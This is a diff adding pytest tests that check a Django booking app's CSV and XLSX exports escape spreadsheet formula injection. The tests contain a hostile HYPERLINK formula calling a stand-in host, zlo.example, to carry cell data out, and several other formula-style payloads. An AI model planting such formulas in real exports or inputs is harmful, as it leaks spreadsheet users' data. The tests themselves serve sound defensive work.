@@ -374,3 +374,56 @@ def test_a_space_moved_to_another_ks_takes_its_requests_along(golnik, strazisce)
     golnik[1].move(strazisce[0], pos="last-child")
     booking.refresh_from_db()
     assert booking.community_id == strazisce[0].pk
+
+
+HOSTILE = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'
+
+
+def exported_rows(client, export):
+    """The rows of the listing's CSV or XLSX file, as a spreadsheet reads its cells."""
+    import csv
+    import io
+
+    import openpyxl
+
+    response = client.get(reverse(LIST), {"export": export})
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    if export == "csv":
+        return list(csv.reader(io.StringIO(content.decode())))
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    for row in sheet.iter_rows(min_row=2):
+        assert all(cell.data_type != "f" for cell in row)
+    return [["" if value is None else str(value) for value in row] for row in sheet.values]
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+def test_the_export_cannot_carry_a_formula_into_a_spreadsheet(client, golnik, municipal, export):
+    """What a requester typed is written as text: a cell that a spreadsheet would read as
+    a formula gets a leading single quote (OWASP), the rest is left as typed."""
+    booking = request_for(golnik[1], HOSTILE)
+    BookingRequest.objects.filter(pk=booking.pk).update(
+        organisation="+SUM(1;2)", name="@Ana", phone="-1+1", email="\tana@example.org"
+    )
+    client.force_login(municipal)
+    heading, row = exported_rows(client, export)
+    cells = dict(zip(heading, row, strict=True))
+    assert cells["Namen"] == "'" + HOSTILE
+    assert cells["Organizacija"] == "'+SUM(1;2)"
+    assert cells["Ime in priimek"] == "'@Ana"
+    assert cells["Telefon"] == "'-1+1"
+    assert cells["E-pošta"] == "'\tana@example.org"
+    assert cells["Prostor"] == "Prostor Golnik"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+def test_the_csv_quotes_every_cell_so_a_semicolon_starts_no_new_cell(client, golnik, municipal):
+    """A spreadsheet set to split on `;` (as Slovenian Excel is) must not find a formula
+    after a semicolon in a cell."""
+    request_for(golnik[1], "Vaja;=1+1")
+    client.force_login(municipal)
+    response = client.get(reverse(LIST), {"export": "csv"})
+    content = b"".join(response.streaming_content).decode()
+    assert '"Vaja;=1+1"' in content
+    for line in content.splitlines():
+        assert line.startswith('"') and line.endswith('"')
